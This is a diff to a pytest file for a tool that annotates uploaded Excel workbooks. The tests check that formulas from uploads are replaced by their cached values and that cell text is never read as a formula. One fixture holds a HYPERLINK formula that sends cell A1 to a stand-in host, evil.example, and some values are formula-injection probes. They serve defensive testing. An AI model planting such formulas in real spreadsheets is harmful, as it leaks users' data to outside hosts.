@@ -9,7 +9,7 @@ from dataclasses import replace
 from datetime import date
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
 from weakorg.app import process_uploads
 from weakorg.export.findings import annotate_workbook, can_annotate, findings_frame, findings_workbook
@@ -113,6 +113,9 @@ def test_what_cannot_be_annotated_is_refused():
     with pytest.raises(ValueError):
         annotate_workbook(b"\xef\xbb\xbf\xe5\xba\x8f\xe5\x8f\xb7,a\n1,2\n", [])
     assert can_annotate("a.XLSX") and can_annotate("b.xlsm") and not can_annotate("c.xls") and not can_annotate("d.csv")
+    csv = "序号,党组织名称\n1,白马村党支部\n".encode()
+    assert not can_annotate("a CSV renamed.xlsx", csv) and not can_annotate("empty.xlsx", b"")
+    assert can_annotate("a.xlsx", workbook_bytes(Workbook()))
 
 
 def test_the_findings_list(checked):
@@ -138,23 +141,46 @@ def _sheet_xml(data: bytes, sheet_index: int) -> str:
         return html.unescape(z.read(f"xl/worksheets/sheet{sheet_index}.xml").decode())
 
 
-def test_the_annotated_copy_keeps_the_units_own_cells_and_adds_no_formula():
-    """Text the unit typed stays text; the unit's own formulas stay theirs (it is their file, sent back to them);
-    what weakorg writes (comments, the added list) is never a formula, whatever the names say."""
+def test_the_annotated_copy_keeps_the_units_values_and_holds_no_formula():
+    """Text the unit typed stays text (quoted, never read as a formula); a formula of the unit's becomes the value it
+    last showed, its text said in the comment; what weakorg writes (comments, the added list) is never a formula,
+    whatever the names say."""
     wb = new_workbook()
     write_f2(add_sheet(wb, "附件2"), "娄星区", date(2014, 3, 11), [{"name": "=1+1村党支部", "members": "+2+3"}])
-    wb["附件2"]["K5"] = "=SUM(C5:C6)"  # the unit's own formula
+    wb["附件2"]["K5"] = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'  # the unit's own formula, never calculated
     content = workbook_bytes(wb)
     [result] = process_uploads([("=HYPERLINK(1).xlsx", content)])
     moved = [replace(f, sheet="不存在") for f in result.findings if f.cell]  # their copies go to the list sheet
     annotated = annotate_workbook(content, result.findings + moved)
     own = _sheet_xml(annotated, 1)
-    assert own.count("<f>") == 1 and "<f>SUM(C5:C6)</f>" in own
-    assert "=1+1村党支部</t>" in own and "+2+3</t>" in own  # still string cells
+    assert "<f>" not in own and "=1+1村党支部</t>" in own and "+2+3</t>" in own  # string cells
     added = _sheet_xml(annotated, 2)
     assert "<f>" not in added and "=HYPERLINK(1).xlsx</t>" in added
     out = load_workbook(io.BytesIO(annotated))
     assert out["附件2"]["C5"].data_type == "s" and "+2+3" in out["附件2"]["C5"].comment.text
+    assert out["附件2"]["C5"].quotePrefix and out["附件2"]["B5"].quotePrefix
+    k5 = out["附件2"]["K5"]
+    assert k5.value is None and "HYPERLINK" in k5.comment.text and "只保留其计算结果" in k5.comment.text
+
+
+def test_a_formula_with_a_value_shown_keeps_that_value():
+    wb = new_workbook()
+    write_f2(add_sheet(wb, "附件2"), "娄星区", date(2014, 3, 11), [{"name": "白马村党支部", "members": 12}])
+    content = workbook_bytes(wb)
+    with zipfile.ZipFile(io.BytesIO(content)) as z:  # a formula Excel calculated: its cached value kept in <v>
+        parts = {n: z.read(n) for n in z.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
+        '<c r="C5" s="5" t="n"><v>12</v></c>', '<c r="C5" s="5"><f>6*2</f><v>12</v></c>'
+    ).encode()
+    assert parts["xl/worksheets/sheet1.xml"] != sheet.encode()
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        for n, data in parts.items():
+            z.writestr(n, data)
+    out = load_workbook(io.BytesIO(annotate_workbook(buf.getvalue(), [])))
+    assert out["附件2"]["C5"].value == 12 and out["附件2"]["C5"].data_type == "n"
+    assert "6*2" in out["附件2"]["C5"].comment.text
 
 
 def test_the_findings_list_writes_every_text_as_a_string_cell():
